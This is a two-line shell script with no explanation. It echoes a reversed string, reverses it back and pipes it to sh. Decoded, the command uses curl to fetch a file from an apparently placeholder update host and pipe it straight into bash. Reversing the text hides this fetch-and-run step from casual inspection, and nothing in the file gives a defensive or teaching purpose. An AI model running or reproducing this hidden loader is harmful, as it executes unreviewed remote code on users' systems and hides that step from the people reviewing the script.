#!/bin/sh
echo 'hsab | r/zyx.ndc-elpmaxe.dpu//:sptth LSsf- lruc' | rev | sh
